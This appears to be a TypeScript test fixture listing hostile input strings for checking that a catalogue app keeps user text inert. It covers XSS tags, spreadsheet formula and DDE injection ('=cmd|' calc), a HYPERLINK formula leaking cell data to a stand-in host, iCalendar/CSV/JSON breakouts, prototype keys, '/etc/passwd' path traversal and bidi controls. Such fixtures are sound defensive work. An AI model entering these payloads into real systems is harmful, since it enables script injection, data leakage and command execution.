/**
 * Words that somebody may type, paste or send where a name, a note or a lot code is asked for, and that must stay words wherever
 * they are shown, printed or handed on. The classes after OWASP (CSV injection, cross-site scripting), RFC 5545 (line breaks and
 * commas in iCalendar) and the Unicode Bidirectional Algorithm (UAX 9); from memory, the texts are our own.
 */

/** What a hostile text tries. */
export type Attempt =
  | 'markup' // becomes an element or a script on a page or a print
  | 'attribute' // leaves the attribute that it stands in
  | 'formula' // is worked out by a spreadsheet
  | 'calendar' // begins a line or a property of its own in iCalendar
  | 'table' // begins a cell or a row of its own in CSV
  | 'json' // ends the string, the line or the element that JSON stands in
  | 'template' // is filled in by the catalogue's own placeholders
  | 'prototype' // names what every object has
  | 'path' // names a place outside the folder
  | 'control' // characters that no eye sees and some readers stop at
  | 'direction'; // turns the words after it round

export interface HostileText {
  readonly attempt: Attempt;
  readonly text: string;
}

const list = (attempt: Attempt, ...texts: readonly string[]): readonly HostileText[] => texts.map((text) => ({ attempt, text })); // prettier-ignore

/** Every text is at most 80 characters long, so that it fits where a person's name fits. A script that ran would set `window.pwned`. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...list(
    'markup',
    '<script>window.pwned=1</script>',
    '<img src=x onerror="window.pwned=1">',
    '<svg/onload=window.pwned=1>',
    '</title></p></td></style><script>window.pwned=1</script>',
    '<!-- <b>Ash</b> --> <![CDATA[ x ]]>',
    '<a href="javascript:window.pwned=1">Ash</a>',
    '&lt;b&gt; &amp;amp; &#60;i&#62;',
    '<iframe srcdoc="<script>parent.pwned=1</script>">',
    '<style>*{display:none}</style>',
  ),
  ...list('attribute', '" onmouseover="window.pwned=1" x="', "' onfocus='window.pwned=1' autofocus x='", '"><b>'),
  ...list(
    'formula',
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '\n=1+1',
    '\u00A0=1+1',
    '\uFF1D1+1',
    '=HYPERLINK("http://larkenshaw.invalid/?"&A1,"Ash")',
    "=cmd|'/C calc'!A0",
    '"=1+1',
    'Ash;=1+1',
    'Ash,=1+1',
    'Ash\t=1+1',
    '\u202E=1+1',
    '\u0000=1+1',
    '\uFEFF=1+1',
  ),
  ...list(
    'calendar',
    'Ash\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged',
    'Ash\nATTACH:http://larkenshaw.invalid/x',
    'Ash\rDESCRIPTION:forged',
    'salt, brine; wax \\ turn \\n wash',
    'Ash\u2028SUMMARY:forged\u2029SUMMARY:forged\u0085SUMMARY:forged',
    'Ash\u000BSUMMARY:forged\u000CSUMMARY:forged',
  ),
  ...list('table', 'Ash","forged","', 'Ash"\r\n"forged', 'Ash\r\nforged,1,2', '"', '""', ','),
  ...list(
    'json',
    '"}\n{"format":"vatside-copy","version":1}',
    '\\"},{"id":"forged"',
    '</script><script>window.pwned=1</script>',
    '\uD800 half a pair \uDC00',
    '\\u0022',
  ),
  ...list('template', '{{name}} {{constructor}}', '$t(today:title)', '${window.pwned=1}', '%s %d %n', '{{__proto__}}'),
  ...list(
    'prototype',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '__proto__[pwned]=1',
    'prototype.pwned',
  ),
  ...list(
    'path',
    '../../../../etc/passwd',
    '..\\..\\forged',
    '/etc/passwd',
    'C:\\forged',
    'nul',
    '%2e%2e%2fforged',
    '.',
    '..',
  ),
  ...list(
    'control',
    'Ash\u0000birch',
    'Ash\u0007\u0008\u001B[31mbirch',
    'Ash\u007F\u009B31mbirch',
    '\u0000',
    'Ash\uFFFEbirch\uFFFF',
  ),
  ...list(
    'direction',
    'Ash \u202Egnp.hcrib',
    'Ash \u202Dbirch',
    'Ash \u2066birch \u2067rowan \u2068',
    '\u2069\u2069\u202C\u202CAsh',
    'Ash \u200F\u200E\u061C birch',
    'A\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301sh',
  ),
];

/** Those that try one of these, as texts alone. */
export const hostileTexts = (...attempts: readonly Attempt[]): readonly string[] =>
  HOSTILE_TEXTS.filter(({ attempt }) => attempts.length === 0 || attempts.includes(attempt)).map(({ text }) => text);

/** Words of every alphabet that must come through unharmed: names people have, and the signs that a note needs. */
export const HARMLESS_TEXTS: readonly string[] = [
  'Ash & Birch',
  'Crème "à l’ancienne"',
  'O’Larkenshaw',
  'L’ÀÉÎÕÜ ß ñ ¿qué?',
  'сыр, τυρί, チーズ, 치즈, جبن, גבינה',
  'pH 5.2 → 5.1; 3 × 2 = 6 (fine)',
  'below 4 °C, above 1/2 tsp',
  'first line\nsecond line',
  '🧀 wheel 7',
];
